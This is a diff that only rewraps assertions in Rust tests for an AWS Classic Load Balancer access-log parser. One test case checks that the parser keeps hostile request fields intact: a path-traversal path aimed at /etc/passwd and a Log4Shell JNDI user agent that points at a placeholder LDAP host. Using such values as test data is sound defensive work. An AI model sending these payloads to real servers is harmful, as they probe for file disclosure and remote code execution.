@@ -14,10 +14,18 @@ fn sample_file_every_line() {
     let r = req(&o[0]);
     assert_eq!(r.format, Format::ElbClassic);
     assert_eq!(r.time, t("2024-03-05T11:00:00.100200Z"));
-    assert_eq!((r.client_ip, r.client_port), (ip("198.51.100.30"), Some(51000)));
+    assert_eq!(
+        (r.client_ip, r.client_port),
+        (ip("198.51.100.30"), Some(51000))
+    );
     assert_eq!(r.backend.as_deref(), Some("10.30.0.5:80"));
     assert_eq!(
-        (r.request_time_us, r.backend_time_us, r.response_time_us, r.total_time_us),
+        (
+            r.request_time_us,
+            r.backend_time_us,
+            r.response_time_us,
+            r.total_time_us
+        ),
         (Some(41), Some(1234), Some(22), Some(1297))
     );
     assert_eq!((r.status, r.backend_status), (Some(200), Some(200)));
@@ -31,8 +39,16 @@ fn sample_file_every_line() {
     assert_eq!(r.path.as_deref(), Some("/catalog"));
     assert_eq!(r.query.as_deref(), Some("sort=price"));
     assert_eq!(r.protocol.as_deref(), Some("HTTP/1.1"));
-    assert!(r.user_agent.as_deref().unwrap().starts_with("Mozilla/5.0 (Macintosh"));
-    assert_eq!((r.tls_cipher.as_deref(), r.tls_protocol.as_deref()), (None, None));
+    assert!(
+        r.user_agent
+            .as_deref()
+            .unwrap()
+            .starts_with("Mozilla/5.0 (Macintosh")
+    );
+    assert_eq!(
+        (r.tls_cipher.as_deref(), r.tls_protocol.as_deref()),
+        (None, None)
+    );
 
     // 2: HTTPS listener.
     let r = req(&o[1]);
@@ -44,9 +60,17 @@ fn sample_file_every_line() {
 
     // 3: no backend: 503, -1 timings, backend status `-`.
     let r = req(&o[2]);
-    assert_eq!((r.status, r.backend_status, r.backend.as_deref()), (Some(503), None, None));
     assert_eq!(
-        (r.request_time_us, r.backend_time_us, r.response_time_us, r.total_time_us),
+        (r.status, r.backend_status, r.backend.as_deref()),
+        (Some(503), None, None)
+    );
+    assert_eq!(
+        (
+            r.request_time_us,
+            r.backend_time_us,
+            r.response_time_us,
+            r.total_time_us
+        ),
         (None, None, None, None)
     );
     assert!(r.is_lb_5xx());
@@ -54,7 +78,10 @@ fn sample_file_every_line() {
     // 4: TCP listener: `- -` statuses, `"- - - "`.
     let r = req(&o[3]);
     assert_eq!((r.status, r.backend_status), (None, None));
-    assert_eq!((r.method.as_deref(), r.path.as_deref(), r.host.as_deref()), (None, None, None));
+    assert_eq!(
+        (r.method.as_deref(), r.path.as_deref(), r.host.as_deref()),
+        (None, None, None)
+    );
     assert_eq!(r.user_agent, None);
     assert_eq!((r.bytes_in, r.bytes_out), (Some(134), Some(859)));
     assert_eq!(r.backend_time_us, Some(10));
@@ -62,18 +89,27 @@ fn sample_file_every_line() {
     // 5: SSL listener with cipher.
     let r = req(&o[4]);
     assert_eq!(r.status, None);
-    assert_eq!(r.tls_cipher.as_deref(), Some("ECDHE-ECDSA-AES128-GCM-SHA256"));
+    assert_eq!(
+        r.tls_cipher.as_deref(),
+        Some("ECDHE-ECDSA-AES128-GCM-SHA256")
+    );
 
     // 6: TCP, no backend.
     let r = req(&o[5]);
-    assert_eq!((r.backend.as_deref(), r.total_time_us, r.bytes_out), (None, None, Some(0)));
+    assert_eq!(
+        (r.backend.as_deref(), r.total_time_us, r.bytes_out),
+        (None, None, Some(0))
+    );
 
     // 7: IPv6 client without brackets, traversal path, Log4Shell UA.
     let r = req(&o[6]);
     assert_eq!(r.client_ip, ip("2001:db8::5"));
     assert_eq!(r.client_port, Some(43210));
     assert_eq!(r.path.as_deref(), Some("/..%2f..%2fetc/passwd"));
-    assert_eq!(r.user_agent.as_deref(), Some("${jndi:ldap://probe.example:1389/x}"));
+    assert_eq!(
+        r.user_agent.as_deref(),
+        Some("${jndi:ldap://probe.example:1389/x}")
+    );
     assert_eq!(r.status, Some(404));
 
     assert_eq!(o[7], Outcome::Skipped("blank"));
@@ -82,7 +118,10 @@ fn sample_file_every_line() {
 
     // 11: CRLF; 12: no final newline.
     let r = req(&o[10]);
-    assert_eq!((r.status, r.path.as_deref()), (Some(304), Some("/logo.png")));
+    assert_eq!(
+        (r.status, r.path.as_deref()),
+        (Some(304), Some("/logo.png"))
+    );
     let r = req(&o[11]);
     assert_eq!(format_rfc3339(r.time), "2024-03-05T11:00:09Z");
     assert_eq!(r.bytes_out, Some(42));
@@ -101,7 +140,9 @@ fn sniff_cases() {
     assert!(!sniff(
         "2024-10-04T17:05:15.514108Z 192.168.131.39 36280 443 TLSv1.2 ECDHE-RSA-AES128-GCM-SHA256 4.036 \"CN=x\" - FEF257372D5C14D4 Success"
     ));
-    assert!(!sniff(crate::parse::alb::tests::SAMPLE.lines().next().unwrap()));
+    assert!(!sniff(
+        crate::parse::alb::tests::SAMPLE.lines().next().unwrap()
+    ));
 }
 
 #[test]
@@ -137,7 +178,10 @@ fn conformance_published_fixtures() {
     };
     let o = outcomes(&text, None);
     let r = req(&o[1]);
-    assert_eq!((r.status, r.backend_status, r.backend.as_deref()), (Some(503), None, None));
+    assert_eq!(
+        (r.status, r.backend_status, r.backend.as_deref()),
+        (Some(503), None, None)
+    );
     assert_eq!(r.request_time_us, None);
     let r = req(&o[0]);
     assert_eq!(r.request_time_us, Some(73));
